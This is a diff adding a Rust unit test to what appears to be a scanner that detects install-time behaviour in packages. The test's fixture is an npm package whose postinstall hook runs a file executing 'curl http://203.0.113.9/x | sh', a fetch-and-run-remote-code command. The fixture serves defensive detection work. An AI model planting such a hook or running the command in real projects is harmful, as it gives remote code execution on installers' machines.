@@ -777,6 +777,27 @@ mod tests {
             ]),
             (true, false)
         );
+        // An npm lifecycle script runs it.
+        let a = analyze_package(&package(
+            "demo",
+            &[
+                (
+                    "package.json",
+                    r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node test/setup.js"}}"#,
+                ),
+                (
+                    "test/setup.js",
+                    "require('child_process').exec('curl http://203.0.113.9/x | sh')\n",
+                ),
+            ],
+        ));
+        assert!(
+            a.behaviours
+                .iter()
+                .any(|b| b.path.ends_with("test/setup.js") && b.context == Context::Install),
+            "{:?}",
+            a.behaviours
+        );
         // pytest loads conftest.py by itself.
         let a = analyze_package(&package(
             "demo",
